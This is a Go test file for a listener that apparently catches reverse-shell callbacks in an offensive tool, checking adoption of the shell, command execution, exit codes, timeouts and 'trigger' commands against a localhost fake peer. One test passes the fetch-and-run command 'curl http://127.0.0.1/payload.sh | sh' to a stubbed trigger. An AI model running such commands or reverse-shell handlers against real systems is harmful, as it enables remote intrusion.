package transport

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/foothold-sh/foothold/internal/adapters/realclock"
)

// freePort grabs an ephemeral port and releases it for the listener
// under test to rebind.
func freePort(t *testing.T) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("probe port: %v", err)
	}
	port := ln.Addr().(*net.TCPAddr).Port
	ln.Close()
	return port
}

// fakeShellPeer dials the listener and answers framed commands the way
// a dumb reverse shell would: echo the start marker, one output line
// per `echo` argument, then the end marker with an exit status.
func fakeShellPeer(t *testing.T, port int) {
	t.Helper()
	conn, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", port), 5*time.Second)
	if err != nil {
		t.Errorf("peer dial: %v", err)
		return
	}

	go func() {
		defer conn.Close()
		scanner := bufio.NewScanner(conn)
		for scanner.Scan() {
			line := scanner.Text()
			idx := strings.Index(line, "echo '"+startMarkerPrefix)
			if idx < 0 {
				continue
			}
			framed := line[idx:]

			q1 := strings.Index(framed, "'")
			q2 := strings.Index(framed[q1+1:], "'")
			start := framed[q1+1 : q1+1+q2]

			k := strings.LastIndex(framed, "echo '")
			rest := framed[k+len("echo '"):]
			q3 := strings.Index(rest, "'")
			end := rest[:q3]

			cmd := framed[q1+q2+4 : k]
			cmd = strings.TrimSuffix(strings.TrimSpace(cmd), ";")

			fmt.Fprintf(conn, "%s\n", start)
			code := 0
			switch {
			case strings.HasPrefix(cmd, "echo "):
				fmt.Fprintf(conn, "%s\n", strings.TrimPrefix(cmd, "echo "))
			case cmd == "fail":
				code = 2
			}
			fmt.Fprintf(conn, "%s%d\n", end, code)
		}
	}()
}

func newTestListener(t *testing.T, cfg ListenerConfig) *Listener {
	t.Helper()
	tr, err := NewListener(cfg, realclock.New(), testLogger())
	if err != nil {
		t.Fatalf("NewListener error: %v", err)
	}
	t.Cleanup(func() { tr.Close() })
	return tr
}

func waitConnected(t *testing.T, tr *Listener) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if tr.Connected() {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatal("listener never adopted the shell")
}

func TestListenerAdoptsCallback(t *testing.T) {
	port := freePort(t)
	tr := newTestListener(t, ListenerConfig{Addr: "127.0.0.1", Port: port})

	if err := tr.Connect(context.Background()); err != nil {
		t.Fatalf("Connect error: %v", err)
	}
	if tr.State() != StateConnecting {
		t.Errorf("State = %v, want connecting while awaiting callback", tr.State())
	}
	if tr.Connected() {
		t.Error("Connected = true before callback")
	}

	fakeShellPeer(t, port)
	waitConnected(t, tr)

	if tr.PeerAddr() == "" {
		t.Error("PeerAddr empty after adoption")
	}

	// Let the post-adoption prompt quieting finish before executing.
	time.Sleep(300 * time.Millisecond)

	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	res, err := tr.Execute(ctx, "echo over-the-wire")
	if err != nil {
		t.Fatalf("Execute error: %v", err)
	}
	if !strings.Contains(res.Output, "over-the-wire") {
		t.Errorf("Output = %q, want over-the-wire", res.Output)
	}
	if res.ExitCode != 0 {
		t.Errorf("ExitCode = %d, want 0", res.ExitCode)
	}
}

func TestListenerExitCode(t *testing.T) {
	port := freePort(t)
	tr := newTestListener(t, ListenerConfig{Addr: "127.0.0.1", Port: port})
	if err := tr.Connect(context.Background()); err != nil {
		t.Fatalf("Connect error: %v", err)
	}
	fakeShellPeer(t, port)
	waitConnected(t, tr)
	time.Sleep(300 * time.Millisecond)

	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	res, err := tr.Execute(ctx, "fail")
	if err != nil {
		t.Fatalf("Execute error: %v", err)
	}
	if res.ExitCode != 2 {
		t.Errorf("ExitCode = %d, want 2", res.ExitCode)
	}
}

func TestListenerExecuteBeforeCallback(t *testing.T) {
	port := freePort(t)
	tr := newTestListener(t, ListenerConfig{Addr: "127.0.0.1", Port: port})
	if err := tr.Connect(context.Background()); err != nil {
		t.Fatalf("Connect error: %v", err)
	}

	_, err := tr.Execute(context.Background(), "echo too-early")
	if !errors.Is(err, ErrNetwork) {
		t.Errorf("error = %v, want ErrNetwork before callback", err)
	}
}

func TestListenerAcceptTimeout(t *testing.T) {
	port := freePort(t)
	tr := newTestListener(t, ListenerConfig{
		Addr:          "127.0.0.1",
		Port:          port,
		AcceptTimeout: 200 * time.Millisecond,
	})
	if err := tr.Connect(context.Background()); err != nil {
		t.Fatalf("Connect error: %v", err)
	}

	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) {
		if tr.State() == StateDisconnected {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatal("listener did not give up after accept timeout")
}

func TestListenerCloseWhileWaiting(t *testing.T) {
	port := freePort(t)
	tr := newTestListener(t, ListenerConfig{Addr: "127.0.0.1", Port: port})
	if err := tr.Connect(context.Background()); err != nil {
		t.Fatalf("Connect error: %v", err)
	}

	if err := tr.Close(); err != nil {
		t.Fatalf("Close error: %v", err)
	}
	if tr.State() != StateDisconnected {
		t.Errorf("State = %v, want disconnected after Close", tr.State())
	}

	// The port is free again.
	ln, err := net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", port))
	if err != nil {
		t.Fatalf("port still bound after Close: %v", err)
	}
	ln.Close()
}

func TestListenerCloseIdempotent(t *testing.T) {
	port := freePort(t)
	tr := newTestListener(t, ListenerConfig{Addr: "127.0.0.1", Port: port})
	if err := tr.Close(); err != nil {
		t.Fatalf("Close before Connect error: %v", err)
	}
	if err := tr.Close(); err != nil {
		t.Fatalf("second Close error: %v", err)
	}
}

func TestListenerTriggerOutcome(t *testing.T) {
	port := freePort(t)
	tr := newTestListener(t, ListenerConfig{Addr: "127.0.0.1", Port: port})

	ran := make(chan string, 1)
	tr.runTrigger = func(ctx context.Context, command string) (int, error) {
		ran <- command
		return 0, nil
	}

	if _, ok := tr.LastTrigger(); ok {
		t.Error("LastTrigger reported an outcome before any Trigger")
	}

	tr.Trigger("curl http://127.0.0.1/payload.sh | sh")

	select {
	case cmd := <-ran:
		if !strings.Contains(cmd, "payload.sh") {
			t.Errorf("trigger ran %q", cmd)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("trigger command never ran")
	}

	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		if out, ok := tr.LastTrigger(); ok && out.Done {
			if out.ExitCode != 0 {
				t.Errorf("ExitCode = %d, want 0", out.ExitCode)
			}
			if out.Error != "" {
				t.Errorf("Error = %q, want empty", out.Error)
			}
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatal("trigger outcome never completed")
}

func TestListenerTriggerAckIsImmediate(t *testing.T) {
	port := freePort(t)
	tr := newTestListener(t, ListenerConfig{Addr: "127.0.0.1", Port: port})

	release := make(chan struct{})
	tr.runTrigger = func(ctx context.Context, command string) (int, error) {
		<-release
		return 0, nil
	}
	defer close(release)

	start := time.Now()
	tr.Trigger("slow-exploit --wait")
	elapsed := time.Since(start)

	if elapsed > 500*time.Millisecond {
		t.Fatalf("Trigger blocked for %v, want immediate return", elapsed)
	}

	// The dispatch is recorded right away, not done until the command
	// finishes.
	out, ok := tr.LastTrigger()
	if !ok {
		t.Fatal("LastTrigger reported no outcome after Trigger")
	}
	if out.Done {
		t.Error("outcome Done before the trigger command finished")
	}
}

func TestListenerTriggerFailureRecorded(t *testing.T) {
	port := freePort(t)
	tr := newTestListener(t, ListenerConfig{Addr: "127.0.0.1", Port: port})

	tr.runTrigger = func(ctx context.Context, command string) (int, error) {
		return 127, errors.New("command not found")
	}
	tr.Trigger("no-such-binary")

	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		if out, ok := tr.LastTrigger(); ok && out.Done {
			if out.ExitCode != 127 {
				t.Errorf("ExitCode = %d, want 127", out.ExitCode)
			}
			if out.Error == "" {
				t.Error("Error empty, want recorded failure")
			}
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatal("trigger outcome never completed")
}

func TestListenerRejectsBadPort(t *testing.T) {
	if _, err := NewListener(ListenerConfig{Port: 0}, realclock.New(), testLogger()); err == nil {
		t.Error("NewListener accepted port 0")
	}
	if _, err := NewListener(ListenerConfig{Port: 70000}, realclock.New(), testLogger()); err == nil {
		t.Error("NewListener accepted port 70000")
	}
}
